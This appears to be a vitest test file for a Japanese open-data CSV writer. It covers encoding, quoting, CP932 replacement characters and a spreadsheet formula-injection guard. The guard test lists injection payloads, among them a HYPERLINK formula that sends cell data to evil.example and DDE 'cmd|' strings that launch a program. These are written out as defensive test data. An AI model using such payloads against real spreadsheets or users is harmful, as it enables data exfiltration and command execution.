// The open-data CSV writer: BOM and CRLF, quoting, CP932 with 〓 for what it cannot hold (reported), and a formula
// guard that keeps open data exact (a phone "-", a negative 標高, "+81 …") while neutralising what a spreadsheet
// would run (=, @, +/- followed by anything but a number).
import fc from "fast-check";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { readCsv } from "../../platform/tabular";
import { guardOpenDataCell, writeOpenDataCsv } from "./export-csv";

const utf8 = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

describe("writeOpenDataCsv", () => {
  it("writes UTF-8 with a BOM, CRLF after every record, and quotes what needs quoting", () => {
    const { bytes } = writeOpenDataCsv(["名称", "説明"], [["皿倉山", '夜景が"100億ドル"、\n展望台']], "utf-8-bom");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(utf8(bytes.subarray(3))).toBe('名称,説明\r\n皿倉山,"夜景が""100億ドル""、\n展望台"\r\n');
  });

  it("writes CP932 that decodes to the same text, with 〜 and − mapped to the forms CP932 has", () => {
    const header = ["名称", "料金（基本）", "備考"];
    const rows = [
      ["小倉城", "大人350円", "9:00〜17:00"],
      ["直方谷尾美術館", "−", "髙橋家寄贈（はしご髙）"],
    ];
    const { bytes, unencodable } = writeOpenDataCsv(header, rows, "cp932");
    expect(unencodable).toEqual([]);
    expect(bytes[0]).not.toBe(0xef);
    expect(iconv.decode(Buffer.from(bytes), "cp932")).toBe(
      "名称,料金（基本）,備考\r\n小倉城,大人350円,9:00～17:00\r\n直方谷尾美術館,－,髙橋家寄贈（はしご髙）\r\n",
    );
  });

  it("writes 〓 for a character CP932 cannot hold and reports its row and column (never '?')", () => {
    const { bytes, unencodable } = writeOpenDataCsv(
      ["ID", "名称"],
      [
        ["1", "𠮷野家跡"],
        ["2", "令和㋿記念館"],
      ],
      "cp932",
    );
    const text = iconv.decode(Buffer.from(bytes), "cp932");
    expect(text).toBe("ID,名称\r\n1,〓野家跡\r\n2,令和〓記念館\r\n");
    expect(text).not.toContain("?");
    expect(unencodable).toEqual([
      { row: 2, column: 1, char: "𠮷" },
      { row: 3, column: 1, char: "㋿" },
    ]);
  });

  it("keeps numbers, phone numbers and a lone dash exactly as the 正式版 has them", () => {
    const values = ["-", "-1.5", "-0.50", "+81 93-582-2111", "-130.8833", "093-582-2111", "(なし)"];
    const { bytes, guarded } = writeOpenDataCsv(
      ["値"],
      values.map((v) => [v]),
      "utf-8-bom",
    );
    expect(guarded).toEqual([]);
    expect(readCsv(bytes).rows.map((r) => r[0])).toEqual(values);
  });

  it("guards every cell a spreadsheet would run as a formula, and reports each", () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
      "@SUM(A1:A2)",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "\t=1+1",
      "-A1",
    ];
    const { bytes, guarded } = writeOpenDataCsv(
      ["値"],
      attacks.map((a) => [a]),
      "utf-8-bom",
    );
    expect(readCsv(bytes).rows.map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
    expect(guarded.map((g) => g.value)).toEqual(attacks);
    expect(guarded.map((g) => g.row)).toEqual([2, 3, 4, 5, 6, 7]);
  });

  it("never leaves a cell that starts a formula unless it is inert (property)", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 20 }), (value) => {
        const { text, guarded } = guardOpenDataCell(value);
        if (!guarded) {
          expect(text).toBe(value);
          // what passes unguarded either starts no formula or is a sign followed by digits and punctuation only
          if (/^[=+\-@\t\r]/.test(value)) expect(value).toMatch(/^[+-][0-9 .,()+-]*$/);
        } else expect(text).toBe(`'${value}`);
      }),
    );
  });
});
